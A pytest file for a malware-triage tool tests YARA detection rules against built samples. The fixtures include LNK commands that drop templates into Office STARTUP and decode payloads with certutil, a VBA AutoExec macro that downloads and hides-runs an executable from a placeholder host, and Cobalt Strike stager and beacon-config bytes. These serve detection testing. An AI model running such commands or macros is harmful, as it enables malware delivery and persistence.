"""YARA: the team's rules (each against what must and must not match), external packs, the compile
cache, the analyzer's findings and the `rules` commands."""

from __future__ import annotations

import base64
import io
import re
import shutil
import struct
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

import yara
from restytriage import attack, rules
from restytriage.analysis import Analysis, Context, Item
from restytriage.analyzers import yara as yara_analyzer
from restytriage.blob import Blob
from restytriage.cfb import CFB_MAGIC
from restytriage.config import Config
from restytriage.engine import triage, triage_bytes
from restytriage.model import walk
from restytriage.samples import cfb_writer, lnk_writer

PREBUILT = Path(rules.__file__).resolve().parent / "samples" / "prebuilt"
CMD = "C:\\Windows\\System32\\cmd.exe"


# --- helpers ----------------------------------------------------------------------------------


def scan(data: bytes, name: str = "sample.bin", ruleset: rules.RuleSet | None = None) -> set[str]:
    """Rule names matching `data`, with the externals the analyzer would pass for `name`."""
    ruleset = ruleset or rules.load_rules()
    suffix = Path(name).suffix.lower()
    values = {"filename": name, "filepath": "", "extension": suffix, "filetype": ""}
    found = ruleset.match(Blob.of(data), values, 30).matches
    return {m.rule for m in found}


def findings_of(report, prefix: str = "yara.") -> list:
    return [f for node in walk(report.root) for f in node.findings if f.id.startswith(prefix)]


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")
    return path


@pytest.fixture
def fresh_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty disk cache and an empty per-process cache."""
    folder = tmp_path / "cache"
    monkeypatch.setenv("RESTYTRIAGE_CACHE_DIR", str(folder))
    rules.clear_memory_cache()
    yield folder / "yara"
    rules.clear_memory_cache()


# --- inert inputs with the real structure of each format ----------------------------------------


def lnk(arguments: str, appended: bytes = b"", target: str = CMD) -> bytes:
    return lnk_writer.build(
        lnk_writer.ShellLink(
            target=target,
            arguments=arguments,
            working_dir="C:\\Windows\\System32",
            icon_location="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            appended=appended,
        )
    )


STARTUP_DROP = (
    '/c copy /b "%cd%\\Invoice.pdf.lnk" "%APPDATA%\\Microsoft\\Word\\STARTUP\\WINWORD.dot" '
    '& start "" "%cd%\\Invoice.pdf"'
)
CARVE_ITSELF = (
    '/c findstr /b "0M8R4KGxGuE" "%cd%\\Invoice.pdf.lnk" > "%TEMP%\\t.b64" '
    '& certutil -decode "%TEMP%\\t.b64" "%APPDATA%\\Microsoft\\Word\\STARTUP\\w.dot"'
)
TEMPLATE_MACRO = """Sub AutoExec()
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", "https://cdn.restylink.invalid/mtl.exe", False
    http.Send
    Shell Environ("TEMP") & "\\mtl.exe", vbHide
End Sub
"""
BENIGN_MACRO = """Sub FormatTables()
    Dim t As Table
    For Each t In ActiveDocument.Tables
        t.Style = "Grid Table 4"
    Next
End Sub
"""
MINIMAL_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2022, 4, 12, 8, 30, 0)), data)
    return out.getvalue()


def iso_of(joliet_name: str, data: bytes) -> bytes:
    import pycdlib

    image = pycdlib.PyCdlib()
    image.new(joliet=3, vol_ident="RESTYLINK")
    image.add_fp(io.BytesIO(data), len(data), "/DOC.LNK;1", joliet_path=f"/{joliet_name}")
    out = io.BytesIO()
    image.write_fp(out)
    image.close()
    return out.getvalue()


def settings_rels(target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/attachedTemplate" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def stager_x86() -> bytes:
    """The block_api prologue and the WinINet call sequence of a reverse-HTTP stager (no real code
    between them: padding stands in for the hashing routine)."""
    prologue = bytes.fromhex("fce8890000006089e531d2648b52308b520c8b5214")
    calls = [
        "686e6574006877696e6954684c772607",  # push "wininet"; LoadLibraryA
        "683a5679a7",  # InternetOpenA
        "6857899fc6",  # InternetConnectA
        "68eb552e3b",  # HttpOpenRequestA
        "682d06187b",  # HttpSendRequestA
        "6858a453e5",  # VirtualAlloc
        "68129689e2",  # InternetReadFile
    ]
    return prologue + b"\x90" * 120 + b"\xff\xd5".join(bytes.fromhex(c) for c in calls) + b"/rLe9\x00"


def stager_x64() -> bytes:
    prologue = bytes.fromhex("fc4883e4f0e8c8000000415141505251564831d265488b5260")
    calls = [
        "49be77696e696e65740041564989e6",  # mov r14, "wininet"; push r14; mov r14, rsp
        "41ba4c772607",  # LoadLibraryA
        "41ba3a5679a7",  # InternetOpenA
        "41ba57899fc6",  # InternetConnectA
        "41baeb552e3b",  # HttpOpenRequestA
        "41ba2d06187b",  # HttpSendRequestA
    ]
    return prologue + b"\x90" * 200 + b"\xff\xd5".join(bytes.fromhex(c) for c in calls)


def beacon_config(key: int) -> bytes:
    """Settings in Cobalt Strike's TLV form (id, type 1 short / 2 int / 3 bytes, length, value),
    XOR-encoded with `key` (0 = clear), inside zero padding as a beacon's .data holds them."""
    settings_ = [
        (1, 1, struct.pack(">H", 0)),  # BeaconType: HTTP
        (2, 1, struct.pack(">H", 443)),  # Port
        (3, 2, struct.pack(">I", 60_000)),  # SleepTime
        (4, 2, struct.pack(">I", 1_048_576)),  # MaxGetSize
        (5, 1, struct.pack(">H", 20)),  # Jitter
        (8, 3, b"cdn.restylink.invalid,/rLe9".ljust(64, b"\x00")),  # C2 server
    ]
    clear = b"".join(struct.pack(">HHH", i, t, len(v)) + v for i, t, v in settings_) + b"\x00" * 32
    return b"\x00" * 64 + bytes(b ^ key for b in clear) + b"\x00" * 64


def tampered(data: bytes, rename: bool = True) -> bytes:
    """A UPX-packed PE with the UPX! magic erased and (optionally) its sections renamed."""
    out = bytearray(data)
    pe = struct.unpack_from("<I", out, 0x3C)[0]
    count = struct.unpack_from("<H", out, pe + 6)[0]
    table = pe + 24 + struct.unpack_from("<H", out, pe + 20)[0]
    for index in range(count if rename else 0):
        entry = table + 40 * index
        name = bytes(out[entry : entry + 8]).rstrip(b"\0")
        if name.startswith(b"UPX"):
            out[entry : entry + 8] = (b".text", b".data", b".rdata")[int(name[3:] or 0) % 3].ljust(8, b"\0")
    return bytes(out).replace(b"UPX!", b"\0\0\0\0")


def prebuilt(name: str) -> bytes:
    return (PREBUILT / name).read_bytes()


# Every team rule: (name, bytes) that must match it, and (name, bytes) that must not.
Case = Callable[[], tuple[str, bytes]]
TEAM_CASES: dict[str, tuple[list[Case], list[Case]]] = {
    "RestyLink_LNK_Shell_Writes_Office_Startup": (
        [
            lambda: ("Invoice.pdf.lnk", lnk(STARTUP_DROP)),
            lambda: (
                "a.lnk",
                lnk(
                    '-w hidden Copy-Item .\\x.dot "$env:APPDATA\\Microsoft\\Excel\\XLSTART\\"',
                    target="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                ),
            ),
        ],
        [
            lambda: ("notes.lnk", lnk('/c copy notes.txt "%USERPROFILE%\\Documents\\backup\\"')),
            # a shortcut to a template already in STARTUP: no shell writes anything there
            lambda: (
                "addin.lnk",
                lnk("", target="C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Word\\STARTUP\\addin.dotm"),
            ),
        ],
    ),
    "RestyLink_LNK_Appended_OLE_or_PDF": (
        [
            lambda: ("x.lnk", lnk("/c echo", appended=cfb_writer.build_word_document(template=True))),
            lambda: ("x.lnk", lnk("/c echo", appended=MINIMAL_PDF)),
            lambda: ("x.lnk", lnk("/c echo", appended=base64.b64encode(CFB_MAGIC + bytes(504)))),
        ],
        [
            lambda: ("x.lnk", lnk("/c echo", appended=b"\x00" * 64)),
            lambda: ("x.doc", cfb_writer.build_word_document(template=True)),  # an OLE file, not an LNK
        ],
    ),
    "RestyLink_LNK_Command_Carves_Itself": (
        [lambda: ("Invoice.pdf.lnk", lnk(CARVE_ITSELF))],
        [lambda: ("x.lnk", lnk('/c findstr /i "error" "%TEMP%\\setup.log"'))],
    ),
    "RestyLink_Archive_Shortcut_With_Document_Extension": (
        [
            lambda: ("invoice.zip", zip_of({"Invoice_2022-04.pdf.lnk": lnk(STARTUP_DROP)})),
            lambda: ("order.zip", zip_of({"order/Order Form.docx      .lnk": lnk("/c echo")})),
            lambda: ("invoice.iso", iso_of("invoice.pdf.lnk", lnk(STARTUP_DROP))),
        ],
        [
            lambda: (
                "docs.zip",
                zip_of({"invoice.pdf": MINIMAL_PDF, "Shortcut to reports.lnk": lnk("/c echo")}),
            ),
            lambda: ("plain.iso", iso_of("invoice.pdf", MINIMAL_PDF)),
            lambda: ("readme.txt", b"open invoice.pdf.lnk to see the invoice\n"),  # not an archive
        ],
    ),
    "RestyLink_Word_Template_With_Macros": (
        [
            lambda: (
                "WINWORD.dot",
                cfb_writer.build_word_document({"NewMacros": TEMPLATE_MACRO}, template=True),
            )
        ],
        [
            lambda: (
                "report.doc",
                cfb_writer.build_word_document({"NewMacros": TEMPLATE_MACRO}, template=False),
            ),
            lambda: ("blank.dot", cfb_writer.build_word_document(template=True)),
        ],
    ),
    "RestyLink_VBA_AutoExec_Download_Execute": (
        [lambda: ("NewMacros.bas", cfb_writer.module_source("NewMacros", TEMPLATE_MACRO).encode())],
        [
            lambda: ("tables.bas", cfb_writer.module_source("NewMacros", BENIGN_MACRO).encode()),
            # download and run, but no auto-exec entry point
            lambda: (
                "m.bas",
                cfb_writer.module_source("M", TEMPLATE_MACRO.replace("AutoExec", "Update")).encode(),
            ),
        ],
    ),
    "RestyLink_Office_Remote_Template": (
        [
            lambda: ("settings.xml.rels", settings_rels("https://cdn.restylink.invalid/t.dotm")),
            lambda: ("settings.xml.rels", settings_rels("\\\\198.51.100.7\\share\\t.dotm")),
            lambda: (
                "x.rtf",
                b"{\\rtf1\\ansi{\\*\\template https://cdn.restylink.invalid/t.dot}\\pard x\\par}",
            ),
        ],
        [
            # What Word writes for a document made from a local template.
            lambda: ("settings.xml.rels", settings_rels("file:///C:\\Users\\a\\Templates\\Report.dotx")),
            lambda: ("x.rtf", b"{\\rtf1\\ansi{\\*\\template C:\\\\Templates\\\\Normal.dot}\\pard x\\par}"),
        ],
    ),
    "RestyLink_Go_DLL_Network_Capability": (
        [lambda: ("go_stager.dll", prebuilt("go_stager.dll"))],
        [
            lambda: ("go_hello.exe", prebuilt("go_hello.exe")),  # Go, but an EXE without requests
            lambda: ("version.dll", prebuilt("c_version.dll")),  # a networked DLL, but not Go
        ],
    ),
    "RestyLink_UPX_Packed_PE": (
        [
            lambda: ("fsum.exe", prebuilt("c_fsum.upx.exe")),
            lambda: ("fsum32.exe", prebuilt("c_fsum32.upx.exe")),
            lambda: ("version.dll", prebuilt("c_version.upx.dll")),
            lambda: ("go_stager.dll", prebuilt("go_stager.upx.dll")),
        ],
        [
            lambda: ("fsum.exe", prebuilt("c_fsum.exe")),
            lambda: ("go_stager.dll", prebuilt("go_stager.upx_tampered.dll")),
        ],
    ),
    "RestyLink_UPX_Packed_PE_Tampered": (
        [
            lambda: ("go_stager.dll", prebuilt("go_stager.upx_tampered.dll")),  # x64 DLL stub
            lambda: ("fsum.exe", tampered(prebuilt("c_fsum.upx.exe"))),  # x64 EXE stub
            lambda: ("fsum32.exe", tampered(prebuilt("c_fsum32.upx.exe"))),  # x86 EXE stub
            lambda: ("version.dll", tampered(prebuilt("c_version.upx.dll"), rename=False)),  # magic only
        ],
        [
            lambda: ("fsum.exe", prebuilt("c_fsum.upx.exe")),
            lambda: ("fsum.exe", prebuilt("c_fsum.exe")),
        ],
    ),
    "RestyLink_CobaltStrike_HTTP_Stager_Shellcode": (
        [
            lambda: ("stager.bin", stager_x86()),
            lambda: ("stager64.bin", stager_x64()),
            lambda: ("calls.bin", stager_x86()[120:]),  # the call sequence alone, prologue cut off
        ],
        [
            lambda: ("only_prologue.bin", stager_x86()[:20] + b"\x90" * 200),
            lambda: ("two_hashes.bin", b"\x90" * 64 + bytes.fromhex("683a5679a76857899fc6")),
        ],
    ),
    "RestyLink_CobaltStrike_Beacon_Config": (
        [
            lambda: ("beacon4.bin", beacon_config(0x2E)),
            lambda: ("beacon3.bin", beacon_config(0x69)),
            lambda: ("beacon_clear.bin", beacon_config(0)),
            lambda: ("beacon_other_key.bin", beacon_config(0x5A)),
        ],
        [
            # the 6-byte start of the block without settings 2 and 3 after it
            lambda: (
                "noise.bin",
                bytes(range(256))
                + bytes(b ^ 0x2E for b in b"\x00\x01\x00\x01\x00\x02\x00\x00")
                + b"\x11" * 64,
            ),
        ],
    ),
}


# --- the team's rules -------------------------------------------------------------------------


def test_team_rules_compile_cleanly_with_full_meta() -> None:
    ruleset = rules.load_rules()
    assert ruleset.problems == () and ruleset.warnings == ()
    assert ruleset.infos, "no team rules found in yara/"
    for info in ruleset.infos:
        meta = info.meta
        for key in ("description", "author", "date", "reference", "attack"):
            assert isinstance(meta.get(key), str) and meta[key].strip(), f"{info.name}: meta {key}"
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", meta["date"]), info.name
        assert isinstance(meta.get("score"), int) and 0 <= meta["score"] <= 100, info.name
        techniques = rules.techniques_of(meta)
        assert techniques and len(techniques) == len(meta["attack"].split(",")), info.name
        for technique in techniques:
            assert attack.name(technique) != "unknown technique", f"{info.name}: {technique}"


def test_every_team_rule_has_positive_and_negative_cases() -> None:
    assert set(TEAM_CASES) == {info.name for info in rules.load_rules().infos}
    assert all(positives and negatives for positives, negatives in TEAM_CASES.values())


@pytest.mark.parametrize("rule", sorted(TEAM_CASES))
def test_team_rule_matches_what_it_describes(rule: str) -> None:
    positives, negatives = TEAM_CASES[rule]
    for case in positives:
        name, data = case()
        assert rule in scan(data, name), f"{rule} missed {name}"
    for case in negatives:
        name, data = case()
        assert rule not in scan(data, name), f"{rule} matched {name}"


# Files of the public corpus a team rule really describes (all UPX-packed PEs, an auto-exec VBA
# module that downloads with Invoke-WebRequest and starts the result); every other file must stay quiet.
EXPECTED_CORPUS_MATCHES = {
    "strelka/fixtures/test_upx.exe": {"RestyLink_UPX_Packed_PE"},
    "upx-testsuite/files/packed/amd64-win64.pe/upx-3.95.exe": {"RestyLink_UPX_Packed_PE"},
    "upx-testsuite/files/packed/i386-win32.pe/upx-3.91.exe": {"RestyLink_UPX_Packed_PE"},
    "upx-testsuite/files/packed/i386-win32.pe/upx-3.95.exe": {"RestyLink_UPX_Packed_PE"},
    "yara/tests/data/079a472d22290a94ebb212aa8015cdc8dd28a968c6b4d3b88acdd58ce2d3b885.upx": {
        "RestyLink_UPX_Packed_PE"
    },
    "yara/tests/data/e3d45a2865818756068757d7e319258fef40dad54532ee4355b86bc129f27345": {
        "RestyLink_UPX_Packed_PE"
    },
    "strelka/fixtures/test.vba": {"RestyLink_VBA_AutoExec_Download_Execute"},
}


def test_team_rules_on_the_public_corpus(corpus: Path) -> None:
    ruleset = rules.load_rules()
    seen: dict[str, set[str]] = {}
    for path in sorted(p for p in corpus.rglob("*") if p.is_file()):
        relative = path.relative_to(corpus).as_posix()
        data = path.read_bytes()
        if relative.startswith("lnkparse3/samples/") or relative.startswith("lnkparse3/raw/"):
            data = base64.b64decode(data)  # upstream keeps these shortcuts base64-encoded
        if hits := scan(data, path.name, ruleset):
            seen[relative] = hits
    assert seen == EXPECTED_CORPUS_MATCHES


# Samples of the set that a team rule describes, with exactly the rules each must raise; every
# sample expected clean must raise none. (Other samples may match rules: they are not listed here.)
SAMPLE_MATCHES = {
    "seminar_programme.pdf.lnk": {"RestyLink_LNK_Shell_Writes_Office_Startup"},
    "seminar_truncated.lnk": {"RestyLink_LNK_Shell_Writes_Office_Startup"},
    "budget_2022.lnk": {"RestyLink_LNK_Shell_Writes_Office_Startup"},
    "請求書.pdf.lnk": {
        "RestyLink_LNK_Shell_Writes_Office_Startup",
        "RestyLink_LNK_Appended_OLE_or_PDF",
        "RestyLink_LNK_Command_Carves_Itself",
    },
    "Invoice_0722.zip": {"RestyLink_Archive_Shortcut_With_Document_Extension"},
    "restylink_startup_template.dot": {"RestyLink_Word_Template_With_Macros"},
    "ooxml_remote_template_https.docx": {"RestyLink_Office_Remote_Template"},
    "ooxml_remote_template_unc.docx": {"RestyLink_Office_Remote_Template"},
    "go_stager.dll": {"RestyLink_Go_DLL_Network_Capability"},
    "go_stager.upx.dll": {"RestyLink_UPX_Packed_PE"},
    "go_stager.upx_tampered.dll": {"RestyLink_UPX_Packed_PE_Tampered"},
    "c_fsum.upx.exe": {"RestyLink_UPX_Packed_PE"},
    "c_fsum32.upx.exe": {"RestyLink_UPX_Packed_PE"},
    "c_version.upx.dll": {"RestyLink_UPX_Packed_PE"},
    "c_fsum.upx_nomagic.exe": {"RestyLink_UPX_Packed_PE_Tampered"},
    "c_fsum.upx_renamed.exe": {"RestyLink_UPX_Packed_PE_Tampered"},
    "c_fsum32.upx_scrambled.exe": {"RestyLink_UPX_Packed_PE_Tampered"},
    "cs_stager_x86.bin": {"RestyLink_CobaltStrike_HTTP_Stager_Shellcode"},
    "cs_beacon_x64.dll": {"RestyLink_CobaltStrike_Beacon_Config"},
}


def test_team_rules_on_the_sample_set(built_samples: dict[str, Path]) -> None:
    from restytriage.samples import all_samples

    ruleset = rules.load_rules()
    seen = {name: scan(path.read_bytes(), name, ruleset) for name, path in built_samples.items()}
    assert {name: seen.get(name) for name in SAMPLE_MATCHES} == SAMPLE_MATCHES
    clean = {s.name for s in all_samples() if s.verdict == "clean"}
    assert clean and {name: hits for name, hits in seen.items() if name in clean and hits} == {}


# --- the analyzer -----------------------------------------------------------------------------


def analyze(data: bytes, name: str, config: Config | None = None, **item_fields) -> Analysis:
    """Run the YARA analyzer alone on one object, as the engine would."""
    from restytriage.identify import identify

    blob = Blob.of(data)
    ctx = Context(config or Config(), Path("/nonexistent"), time.monotonic() + 60)
    suffix = Path(name).suffix
    fields = {"depth": 1, **item_fields}
    item = Item(blob=blob, name=name, type=identify(blob, name).name, extension=suffix[1:].lower(), **fields)
    return yara_analyzer.analyze(item, ctx)


def test_match_becomes_a_finding_with_the_rules_meta() -> None:
    out = analyze(cfb_writer.module_source("NewMacros", TEMPLATE_MACRO).encode(), "NewMacros.bas")
    (finding,) = out.findings
    assert finding.id == "yara.match_critical" and finding.score == 80  # the rule's own score
    assert finding.title == "YARA RestyLink_VBA_AutoExec_Download_Execute"
    assert finding.evidence.startswith("VBA source with an auto-exec entry point")
    assert finding.techniques == ["T1059.005", "T1105", "T1204.002"]
    details = finding.details
    assert details["rule"] == "RestyLink_VBA_AutoExec_Download_Execute"
    assert details["source"].endswith("restylink_office.yar") and details["scopes"] == ["file"]
    assert details["meta"]["author"] == "restytriage team"
    by_id = {s["identifier"]: s for s in details["strings"]}
    assert by_id["$download_xmlhttp"]["instances"][0]["data"] == "XMLHTTP"
    auto = by_id["$auto"]["instances"][0]
    text = cfb_writer.module_source("NewMacros", TEMPLATE_MACRO)
    assert auto["offset"] == text.index("Sub AutoExec(") and auto["encoding"] == "ascii"
    assert out.facts == {"YARA": "RestyLink_VBA_AutoExec_Download_Execute"}


def test_macro_sources_from_earlier_analyzers_are_scanned() -> None:
    template = cfb_writer.build_word_document({"NewMacros": TEMPLATE_MACRO}, template=True)
    modules = [{"name": "NewMacros", "source": cfb_writer.module_source("NewMacros", TEMPLATE_MACRO)}]
    listed_twice = {"ole": {"macros": {"modules": modules}}, "ooxml": {"macros": {"modules": modules}}}
    out = analyze(template, "WINWORD.dot", metadata=listed_twice)
    scopes = {f.details["rule"]: f.details["scopes"] for f in out.findings}
    assert scopes == {
        "RestyLink_Word_Template_With_Macros": ["file"],
        "RestyLink_VBA_AutoExec_Download_Execute": ["VBA module NewMacros"],
    }


def test_template_chain_through_the_engine() -> None:
    template = cfb_writer.build_word_document({"NewMacros": TEMPLATE_MACRO}, template=True)
    report = triage_bytes(template, "WINWORD.dot")
    rules_hit = {f.details["rule"] for f in findings_of(report)}
    # The OLE analyzer's decompressed module source reaches the VBA rule.
    assert rules_hit == {"RestyLink_Word_Template_With_Macros", "RestyLink_VBA_AutoExec_Download_Execute"}
    assert {"T1137.001", "T1105"} <= {t.id for t in report.techniques}


def test_matched_strings_are_truncated_and_capped() -> None:
    pack = 'rule many { strings: $a = /A{100}/ $b = "BB" condition: all of them }'
    data = (b"A" * 100 + b"-") * 50 + b"BB"
    with_pack = rules.RuleSet(rules=yara.compile(source=pack), key="test")
    found = with_pack.match(Blob.of(data), {}, 10).matches
    strings = yara_analyzer.matched_strings(found[0].strings)
    a, b = strings
    assert a["count"] == 50 and len(a["instances"]) == yara_analyzer.MAX_INSTANCES - 1
    assert b["count"] == 1 and len(b["instances"]) == 1  # every identifier keeps its first instance
    first = a["instances"][0]
    assert first["length"] == 100 and len(first["data"]) == rules.MAX_MATCH_DATA and first["truncated"]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"cmd.exe /c", {"data": "cmd.exe /c", "encoding": "ascii"}),
        ("STARTUP".encode("utf-16-le"), {"data": "STARTUP", "encoding": "utf-16le"}),
        (b"\xd0\xcf\x11\xe0", {"data": "d0cf11e0", "encoding": "hex"}),
    ],
)
def test_matched_data_is_shown_readably(data: bytes, expected: dict[str, str]) -> None:
    assert yara_analyzer.shown_bytes(data) == expected


@pytest.mark.parametrize(
    ("meta", "expected"),
    [
        ({"score": 85}, ("yara.match_critical", 85)),
        ({"score": "35"}, ("yara.match_medium", 35)),
        ({"score": 0}, ("yara.match_info", 0)),
        ({"score": 250}, ("yara.match_critical", 100)),
        ({"severity": "High"}, ("yara.match_high", None)),
        ({"severity": "informational"}, ("yara.match_info", None)),
        ({"severity": 100}, ("yara.match_critical", 100)),  # Elastic's numeric severity
        ({"severity": "unheard-of"}, ("yara.match", None)),
        ({"score": True}, ("yara.match", None)),
        ({}, ("yara.match", None)),
    ],
)
def test_grade_from_rule_meta(meta: dict, expected: tuple[str, int | None]) -> None:
    assert yara_analyzer.grade(meta) == expected


def test_techniques_from_public_meta_conventions() -> None:
    assert rules.techniques_of({"mitre_att": "T1059.001"}) == ["T1059.001"]
    assert rules.techniques_of({"mitre_attack": "t1204.002; T1566.001", "author": "T1000"}) == [
        "T1204.002",
        "T1566.001",
    ]
    assert rules.techniques_of({"technique": "Template Injection (T1221)"}) == ["T1221"]


def test_externals_let_rules_reason_about_names(tmp_path: Path) -> None:
    write(
        tmp_path / "pack",
        "names.yar",
        'rule shortcut_named_as_pdf { condition: filename matches /\\.pdf\\.lnk$/ and extension == ".lnk"'
        ' and filetype == "LNK" and filepath == "docs\\\\2022" }\n'
        'rule text_by_type { condition: filetype == "TEXT" and filename == "notes.txt" }\n',
    )
    config = Config(yara_dirs=(tmp_path / "pack",))
    hit = analyze(lnk("/c echo"), "docs\\2022\\invoice.pdf.lnk", config)
    assert [f.details["rule"] for f in hit.findings] == ["shortcut_named_as_pdf"]
    assert [f.details["rule"] for f in analyze(b"just words\n", "notes.txt", config).findings] == [
        "text_by_type"
    ]
    assert analyze(lnk("/c echo"), "docs\\2022\\invoice.lnk", config).findings == []


def test_scan_timeout_and_errors_become_findings(monkeypatch: pytest.MonkeyPatch) -> None:
    def times_out(self, blob, externals, timeout):
        raise yara.TimeoutError("scan timed out")

    monkeypatch.setattr(rules.RuleSet, "match", times_out)
    (finding,) = analyze(b"x" * 100, "x.bin").findings
    assert finding.id == "yara.timeout" and "100 bytes" in finding.evidence

    def fails(self, blob, externals, timeout):
        raise yara.Error("could not map file")

    monkeypatch.setattr(rules.RuleSet, "match", fails)
    (finding,) = analyze(b"x", "x.bin").findings
    assert finding.id == "yara.scan_error" and "could not map file" in finding.evidence


def test_large_objects_are_scanned_by_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[dict] = []

    class Spy:
        def match(self, **kwargs):
            seen.append(kwargs)
            return []

    spied = rules.RuleSet(rules=Spy(), key="spy")  # type: ignore[arg-type]
    path = tmp_path / "big.bin"
    path.write_bytes(b"\0" * 1024)
    spied.match(Blob(path=path), {}, 5)
    spied.match(Blob.of(b"small"), {}, 5)
    assert seen[0]["filepath"] == str(path) and "data" not in seen[0]
    assert seen[1]["data"] == b"small" and "filepath" not in seen[1]


def test_objects_over_the_whole_scan_size_are_scanned_in_overlapping_windows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Shrunk sizes, same arithmetic: a string across a window boundary, one in the last window's
    tail, and one seen by two overlapping windows are each reported once at their offset in the file."""
    monkeypatch.setattr(rules, "WHOLE_SCAN_MAX", 64 << 10)
    monkeypatch.setattr(rules, "SCAN_WINDOW", 32 << 10)
    monkeypatch.setattr(rules, "WINDOW_OVERLAP", 4 << 10)
    size = 100_000
    content = bytearray(b"." * size)
    placed = {"straddle": (28 << 10) - 3, "overlap": (28 << 10) + 100, "tail": size - 10}
    for word, offset in placed.items():
        content[offset : offset + len(word)] = word.encode()
    path = tmp_path / "image.bin"
    path.write_bytes(content)
    pack = " ".join(f'${w} = "{w}"' for w in placed)
    ruleset = rules.RuleSet(
        rules=yara.compile(source=f"rule words {{ strings: {pack} condition: any of them }}"), key="t"
    )
    scan = ruleset.match(Blob(path=path), {}, 10)
    assert scan.windows == [0, 28 << 10, 56 << 10, 84 << 10]  # the last ends past 100,000
    (match,) = scan.matches
    found = {s.identifier: [i.offset for i in s.instances] for s in match.strings}
    assert found == {f"${w}": [offset] for w, offset in placed.items()}
    # In a triage, the node says it was scanned in windows, and the match keeps its file offset.
    write(tmp_path / "pack", "words.yar", f"rule words {{ strings: {pack} condition: any of them }}\n")
    report = triage(path, Config(builtin_rules=False, yara_dirs=(tmp_path / "pack",)))
    by_id = {f.id: f for f in report.root.findings}
    assert "4 windows of 0 MiB" in by_id["yara.windowed"].evidence
    assert "$straddle@0x6ffd" in by_id["yara.match"].evidence
    monkeypatch.setattr(rules, "WHOLE_SCAN_MAX", 1 << 20)
    assert ruleset.match(Blob(path=path), {}, 10).windows == []  # under the limit: one whole scan


# --- external packs ---------------------------------------------------------------------------


def test_load_problems_surface_once_on_the_root(tmp_path: Path) -> None:
    pack = tmp_path / "pack"
    write(pack, "good.yar", 'rule zip_seen { strings: $pk = "PK\\x03\\x04" condition: $pk at 0 }\n')
    write(
        pack,
        "broken.yar",
        "rule ok_part { condition: true }\n\nrule broken {\n  condition: no_such_thing\n}\n",
    )
    report = triage_bytes(zip_of({"a.txt": b"hello\n"}), "a.zip", Config(yara_dirs=(pack,)))
    skipped = [f for f in findings_of(report) if f.id == "yara.rules_skipped"]
    assert len(skipped) == 1 and skipped[0].score == 0
    assert "broken.yar(4): undefined identifier" in skipped[0].evidence
    assert report.root.metadata["yara"]["ruleset"]["skipped"] == [
        f'{pack / "broken.yar"}(4): undefined identifier "no_such_thing" [syntax]'
    ]
    assert report.root.findings.count(skipped[0]) == 1
    assert any(f.details.get("rule") == "zip_seen" for f in report.root.findings)


def test_corpus_packs_broken_duplicate_unsupported_and_includes(corpus: Path, tmp_path: Path) -> None:
    packs = tmp_path / "packs"
    for relative in (
        "strelka/fixtures/test.yara",
        "strelka/fixtures/test_elk_linux_torte.yara",
        "plaso/test_data/rules.yara",
        "plaso/test_data/unsupported_rules.yara",
        "yara/tests/data/foo.yar",
        "yara/tests/data/include/bar.yar",
        "yara/tests/data/baz.yar",
        "yara/sample.rules",
    ):
        target = packs / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(corpus / relative, target)
    write(
        packs,
        "cuckoo/network.yar",
        'import "cuckoo"\nrule c2 { condition: cuckoo.network.http_request(/x/) }\n',
    )
    ruleset = rules.load_rules([packs / "strelka", packs / "plaso", packs / "yara", packs / "cuckoo"])
    problems = {Path(p.source).name: p for p in ruleset.problems}
    assert set(problems) == {
        "test_elk_linux_torte.yara",
        "unsupported_rules.yara",
        "sample.rules",
        "network.yar",
    }
    broken = problems["test_elk_linux_torte.yara"]
    assert (broken.kind, broken.line, broken.message) == ("syntax", 31, 'undefined identifier "is__elf"')
    assert problems["unsupported_rules.yara"].kind == "unsupported_module"
    assert "bogus" in problems["unsupported_rules.yara"].message
    assert (
        problems["network.yar"].kind == "unsupported_module" and "cuckoo" in problems["network.yar"].message
    )
    duplicate = problems["sample.rules"]  # its rule `test` is strelka's `test` again
    assert duplicate.kind == "duplicate" and 'rule "test"' in duplicate.message
    names = {info.name for info in ruleset.infos}
    assert {"test", "hex_extraction_test", "meta_test", "PEfileBasic", "PEfile", "foo", "bar", "baz"} <= names
    # foo.yar includes include/bar.yar, which includes ../baz.yar: compiled once, inside foo.yar.
    assert [n for n in ruleset.sources if n.startswith("yara:")] == ["yara:tests/data/foo.yar"]

    text = (corpus / "strelka/fixtures/test.txt").read_bytes()
    found = ruleset.match(Blob.of(text), {}, 10).matches
    external = {m.rule: m for m in found if not m.namespace.startswith("restytriage:")}
    assert set(external) == {"test", "hex_extraction_test", "meta_test", "foo", "bar", "baz"}
    assert external["hex_extraction_test"].strings[0].instances[0].offset == 0x30F
    assert external["meta_test"].meta == {"author": "John Doe", "scope": "detection"}
    found = ruleset.match(Blob(path=corpus / "plaso/test_data/test_pe.exe"), {}, 10).matches
    assert {"PEfileBasic", "PEfile"} <= {m.rule for m in found}


def test_index_file_members_compile_one_by_one(tmp_path: Path) -> None:
    pack = tmp_path / "pack"
